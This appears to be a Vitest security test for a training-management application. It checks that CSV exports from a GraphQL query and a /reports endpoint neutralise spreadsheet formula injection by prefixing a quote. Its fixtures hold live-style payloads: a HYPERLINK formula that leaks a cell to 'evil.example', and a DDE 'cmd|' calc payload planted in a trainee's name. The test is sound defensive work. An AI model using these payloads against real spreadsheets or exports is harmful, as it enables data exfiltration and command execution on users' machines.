/**
 * CSV formula injection (issue 29, finding 5): text a person typed reaches the exports'
 * cells prefixed with `'` when a spreadsheet would read it as a formula, whatever follows
 * the leading sign; through both doors that write CSV (the GraphQL export and /reports).
 */
import { describe, expect, it } from 'vitest';
import { sql } from './support/db';
import { startTestServer } from './support/server';
import { courseId, M, outcome, slots, traineesOf, validatedRequest } from './training.helpers';

const server = await startTestServer();
const base = server.url.replace(/\/graphql$/, '');
const referent = await server.tokenForRole('TRAINING_REFERENT');
const admin = await server.tokenForRole('ADMINISTRATOR');
const dafLyon = await server.tokenForRole('DAF_MANAGER', 'RECT-LYON');
const raw = (id: string) => Buffer.from(id, 'base64url').toString().split(':')[1];
const gid = (type: string, id: string) => Buffer.from(`${type}:${id}`).toString('base64url');

const LABEL = '-0+HYPERLINK("http://evil.example/?leak="&C3,"Voir")';
const FIRST = "-2+3+cmd|'";
const LAST = "/C calc'!A0";
const RECORD = `mutation($input: RecordAttendanceInput!) { recordTrainingAttendance(input: $input) { userErrors { code message } } }`;
const EXPORT = `query($t: TrainingStatisticsTable!, $f: TrainingStatisticsFilter) { trainingStatisticsCsv(table: $t, filter: $f) }`;

/** A HELD 3-part session labelled LABEL whose one trainee (named FIRST LAST) missed a part. */
async function poisonedSession() {
  const course = await courseId(server, referent, 'Budget');
  const created = await server.gql(
    `mutation($input: CreateTrainingSessionInput!) { createTrainingSession(input: $input) { session { id } userErrors { code } } }`,
    { input: { courseId: course, label: LABEL, capacity: 5, status: 'OPEN', parts: slots(new Date(Date.now() + 5 * 86_400_000), 3) } },
    { token: referent },
  );
  expect(created.body.data.createTrainingSession.userErrors).toEqual([]);
  const session = created.body.data.createTrainingSession.session.id;
  const [trainee] = await traineesOf(server, 'CSP-LYON', 1, 60);
  const reg = await validatedRequest(server, session, trainee.token, dafLyon);
  expect(outcome(await server.gql(M.register, { input: { id: reg } }, { token: referent }), 'registerTrainee')).toBe('OK');
  // every part in the past (attendance is recorded once a part has started), then HELD: the trainee's partial attendance counts in ASSIDUITY
  for (const table of ['training_session_part', 'training_session'])
    await sql(server.databaseUrl, `update ${table} set starts_at = starts_at - interval '30 days', ends_at = ends_at - interval '30 days' where ${table === 'training_session' ? 'id' : 'session_id'} = $1`, [raw(session)]);
  expect(outcome(await server.gql(RECORD, { input: { registrationId: reg, part: 1, connected: true, minutes: 100 } }, { token: referent }), 'recordTrainingAttendance')).toBe('OK');
  const person = (await sql(server.databaseUrl, 'select trainee_id from training_registration where id = $1', [raw(reg)])).rows[0].trainee_id;
  const renamed = await server.gql(`mutation($input: UpdatePersonInput!) { updatePerson(input: $input) { userErrors { code } } }`, { input: { id: gid('Person', person), firstName: FIRST, lastName: LAST } }, { token: admin });
  expect(renamed.body.data.updatePerson.userErrors).toEqual([]);
  expect(outcome(await server.gql(M.updateSession, { input: { id: session, status: 'HELD' } }, { token: referent }), 'updateTrainingSession')).toBe('OK');
  return { session, email: trainee.email };
}

const { session, email } = await poisonedSession();
const NEUTRAL_LABEL = `"'-0+HYPERLINK(""http://evil.example/?leak=""&C3,""Voir"")"`;
const NEUTRAL_NAME = `'${FIRST} ${LAST}`;

/** The cells of a line as a spreadsheet would split them (`;`, `"` quoting). */
function cells(line: string): string[] {
  return [...line.matchAll(/("(?:[^"]|"")*"|[^;]*)(;|$)/g)].filter((m) => m.index! < line.length || m[1] !== '').map((m) => (m[1].startsWith('"') ? m[1].slice(1, -1).replace(/""/g, '"') : m[1]));
}

describe('a formula typed into a label or a name reaches the CSV exports as text', () => {
  it('PARTS_ATTENDED through the GraphQL export: the session label starts with a quote', async () => {
    const res = await server.gql(EXPORT, { t: 'PARTS_ATTENDED', f: { sessionId: session } }, { token: referent });
    expect(res.body.errors).toBeUndefined();
    const line = res.body.data.trainingStatisticsCsv.split('\r\n').find((l: string) => l.includes('HYPERLINK'));
    expect(line).toContain(`;${NEUTRAL_LABEL};`);
    expect(cells(line)[1]).toBe(`'${LABEL}`);
  });

  it('ASSIDUITY through the GraphQL export: the person name starts with a quote, the counts stay numbers', async () => {
    const res = await server.gql(EXPORT, { t: 'ASSIDUITY', f: { sessionId: session } }, { token: referent });
    const line = res.body.data.trainingStatisticsCsv.split('\r\n').find((l: string) => l.includes(email));
    expect(cells(line)).toEqual([NEUTRAL_NAME, email, 'CSP-LYON', '1', '0', '0', '1', '100']);
  });

  it('the same two tables through /reports/training.csv', async () => {
    const get = async (table: string) => {
      const res = await fetch(`${base}/reports/training.csv?table=${table}`, { headers: { authorization: `Bearer ${referent}` } });
      expect(res.status).toBe(200);
      return res.text();
    };
    const parts = await get('PARTS_ATTENDED');
    expect(parts).toContain(`;${NEUTRAL_LABEL};`);
    expect(parts).not.toMatch(/(^|;)"?-0\+HYPERLINK/m);
    const assiduity = await get('ASSIDUITY');
    expect(assiduity).toContain(`\r\n${NEUTRAL_NAME};${email};`);
    expect(assiduity).not.toMatch(/(^|;)-2\+3/m);
  });
});
